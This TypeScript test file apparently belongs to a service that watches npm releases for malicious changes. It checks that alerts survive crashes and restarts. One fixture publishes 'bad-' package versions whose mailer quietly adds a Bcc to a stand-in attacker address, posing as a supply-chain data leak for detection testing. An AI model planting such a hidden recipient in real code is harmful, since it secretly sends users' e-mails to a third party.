import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { remoteRecords } from '../src/storage/records-socket.ts';
import type { KnownRelease } from '../src/storage/releases.ts';
import { openStore } from '../src/storage/store.ts';
import { databaseKinds } from './support/database.ts';
import { startFakeNpmRegistry, type FakeNpmRegistry } from './support/fake-npm-registry.ts';
import { createRandom } from './support/random.ts';
import {
  startServiceProcess,
  type Said,
  type ServiceProcess,
  type ServiceProcessOptions,
} from './support/service-process.ts';

const manyNames = Array.from({ length: 50 }, (_, index) =>
  index % 2 === 0 ? `good-${index}` : `bad-${index}`,
);
const fewNames = manyNames.slice(0, 8);

/** An e-mail tool; with a second recipient that nobody asked for, it is what every alert here is about. */
function mailer(bcc: string): string {
  return `
    import { ServerClient } from 'postmark';
    const client = new ServerClient(process.env.POSTMARK_TOKEN);
    export function send(to, text) {
      return client.sendEmail({ From: 'me@example.test', To: to, ${bcc} TextBody: text });
    }
  `;
}

/** Two releases of each package: at first sight the second one is compared with the first. */
function publishAll(registry: FakeNpmRegistry): void {
  for (const name of manyNames) {
    const bcc = name.startsWith('bad-') ? "Bcc: 'copies@attacker.invalid'," : '';
    for (const [version, code] of [
      ['1.0.0', mailer('')],
      ['1.0.1', mailer(bcc)],
    ] as const) {
      const manifest = JSON.stringify({ name, version, type: 'module', main: 'index.js' });
      const files = { 'package.json': manifest, 'index.js': code };
      registry.publish(name, version, files);
    }
  }
}

/** Lets a service say so many more lines, and a moment more. */
async function waitForLines(service: ServiceProcess, lines: number, moreMs: number): Promise<void> {
  await new Promise<void>((resolve) => {
    let left = lines;
    service.onLine(() => {
      left -= 1;
      if (left === 0) resolve();
    });
    // When there is little left to do it says no more lines.
    setTimeout(resolve, 4_000);
  });
  await sleep(moreMs);
}

/** Waits until a service has had nothing to say for a moment: then its alerts have left. */
async function waitUntilQuiet({ said }: ServiceProcess): Promise<void> {
  let lines = 0;
  do {
    lines = said.length;
    await sleep(1_000);
  } while (said.length > lines);
}

/** Waits until a service watches, and has said so many more lines. */
async function waitForWork(service: ServiceProcess, lines: number): Promise<void> {
  while (service.said.length < lines || !service.said.some(isWatching)) await sleep(5);
}

function isWatching({ message }: Said): boolean {
  return message === 'Watching';
}

/** What a service said last, for when it did something else. */
function transcript({ said }: ServiceProcess): string {
  return said
    .slice(-15)
    .map((one) => JSON.stringify(one))
    .join('\n');
}

describe.each(databaseKinds())('a service on $name', (kind) => {
  let registry: FakeNpmRegistry;
  let options: ServiceProcessOptions;
  let names: readonly string[];

  beforeAll(async () => {
    await kind.start();
    registry = await startFakeNpmRegistry();
    publishAll(registry);
  });
  afterAll(async () => {
    await registry.stop();
    await kind.stop();
  });

  async function prepare(watched: readonly string[], sandboxes: boolean): Promise<void> {
    names = watched;
    const location = await kind.create();
    const watchlist = join(location.dataFolder, 'watchlist.yaml');
    await mkdir(location.dataFolder, { recursive: true });
    const packages = names.map((name) => `  - purl: pkg:npm/${name}`);
    await writeFile(watchlist, `title: Fifty packages\npackages:\n${packages.join('\n')}\n`);
    options = { ...location, registryUrl: registry.url, watchlist, sandboxes };
  }

  /** Lets services run, one after another, until nothing is left to do. */
  async function finish(): Promise<readonly ServiceProcess[]> {
    const services: ServiceProcess[] = [];
    do {
      const service = startServiceProcess(options);
      services.push(service);
      await waitUntilInspected(service);
      service.kill('SIGTERM');
      expect(await service.ended, transcript(service)).toBe(0);
    } while (!(await isFinished()));
    return services;
  }

  /** Asks the running service itself where the database is its own; a server can be asked beside it. */
  async function waitUntilInspected(service: ServiceProcess): Promise<void> {
    await waitForWork(service, 1);
    if (options.databaseUrl !== undefined) {
      // Jobs of a killed process come back when it has given no sign of life for a while.
      while (!(await isFinished())) await sleep(250);
      return;
    }
    const { releases } = remoteRecords(options.dataFolder);
    while (!areInspected(await releases.list({ limit: 1_000 }))) await sleep(250);
    await waitUntilQuiet(service);
  }

  function areInspected(releases: readonly KnownRelease[]): boolean {
    const isWaiting = releases.some(({ status }) => status === 'discovered');
    return releases.length === names.length && !isWaiting;
  }

  async function isFinished(): Promise<boolean> {
    const store = await openStore(options);
    try {
      const releases = await store.releases.list({ limit: 1_000 });
      const deliveries = await store.deliveries.listPending();
      return areInspected(releases) && deliveries.length === 0;
    } finally {
      await store.close();
    }
  }

  /** What must be so in the end, whatever happened on the way. */
  async function expectNothingLostNothingTwice(services: readonly ServiceProcess[]): Promise<void> {
    const badNames = names.filter((name) => name.startsWith('bad-'));
    const store = await openStore(options);
    const releases = await store.releases.list({ limit: 1_000 });
    const findings = await store.findings.list({ limit: 1_000 });
    const deliveries = await store.deliveries.list();
    await store.close();
    expect(releases.map(({ purl }) => purl).sort()).toEqual(
      names.map((name) => `pkg:npm/${name}@1.0.1`).sort(),
    );
    expect(new Set(releases.map(({ status }) => status))).toEqual(new Set(['inspected']));
    expect(findings.map(({ purl }) => purl).sort()).toEqual(
      badNames.map((name) => `pkg:npm/${name}@1.0.1`).sort(),
    );
    expect(deliveries).toHaveLength(2 * badNames.length);
    expect(new Set(deliveries.map(({ state }) => state))).toEqual(new Set(['delivered']));
    const alertIds = [...new Set(deliveries.map(({ alertId }) => alertId))].sort();
    const files = await readdir(join(options.dataFolder, 'alerts'));
    expect(files.sort()).toEqual(alertIds.map((id) => `${id}.md`));
    const printed = services.map((service) => service.output()).join('');
    expect(alertIds.filter((id) => !printed.includes(`Alert ${id}`))).toEqual([]);
    const inspected = services
      .flatMap(({ said }) => said)
      .filter(({ message }) => message === 'A release was inspected')
      .map(({ release }) => release);
    expect(inspected).toHaveLength(new Set(inspected).size);
  }

  async function killSometimes(rounds: number, mostLines: number): Promise<void> {
    const seed = Number(process.env['WATCHKEEPER_TEST_SEED'] ?? Date.now() % 1_000_000);
    const random = createRandom(seed);
    const services: ServiceProcess[] = [];
    try {
      for (let round = 0; round < rounds; round += 1) {
        const service = startServiceProcess(options);
        services.push(service);
        // Every third is killed while it starts, the others somewhere in their work.
        if (round % 3 === 0) await sleep(100 + random() * 1_500);
        else await waitForLines(service, 3 + Math.floor(random() * mostLines), random() * 30);
        service.kill('SIGKILL');
        expect(await service.ended, transcript(service)).toBe('SIGKILL');
      }
      services.push(...(await finish()));
      await expectNothingLostNothingTwice(services);
    } catch (error) {
      throw new Error(`with WATCHKEEPER_TEST_SEED=${seed}`, { cause: error });
    }
  }

  it('inspects every release and alerts once, wherever it is killed', async () => {
    await prepare(manyNames, false);
    await killSometimes(6, 25);
  }, 180_000);

  // What a sandbox reads has nothing to do with the kind of database.
  it.runIf(kind.name === 'PGlite')(
    'does so too while its sandboxes read packages',
    async () => {
      await prepare(fewNames, true);
      await killSometimes(2, 14);
    },
    120_000,
  );

  it('ends cleanly in the middle of its work, and goes on where it was', async () => {
    await prepare(manyNames, false);
    const service = startServiceProcess(options);
    await waitForWork(service, 20);
    service.kill('SIGTERM');
    expect(await service.ended, transcript(service)).toBe(0);
    expect(service.said.map(({ message }) => message)).toContainEqual(
      expect.stringMatching(/^Stopping: /),
    );
    expect(service.said.at(-1)?.message).toBe('Stopped');
    await expectNothingLostNothingTwice([service, ...(await finish())]);
  }, 120_000);
});
